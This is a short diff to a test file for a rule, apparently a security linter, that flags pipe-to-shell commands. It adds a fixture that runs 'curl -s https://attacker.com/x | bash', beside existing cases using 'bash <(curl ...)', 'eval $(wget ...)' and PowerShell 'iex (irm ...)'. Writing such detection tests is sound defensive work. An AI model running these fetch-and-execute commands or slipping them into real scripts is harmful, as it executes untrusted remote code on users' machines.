@@ -169,6 +169,7 @@ checkRule('V07', {
       severity: 'information',
     }),
     body('```sh\n«curl -LsSf https://astral.sh/uv/install.sh | sh»\n```\n', { severity: 'information' }),
+    body('```sh\n«curl -s https://attacker.com/x | bash»\n```\n', { severity: 'information' }),
     script('«bash <(curl -s https://example.org/x»)\n'),
     script(`«eval "${dollar}(wget -qO- https://example.org/x»)"\n`),
     script('«iex (irm https://example.org/x.ps1)»\n'),
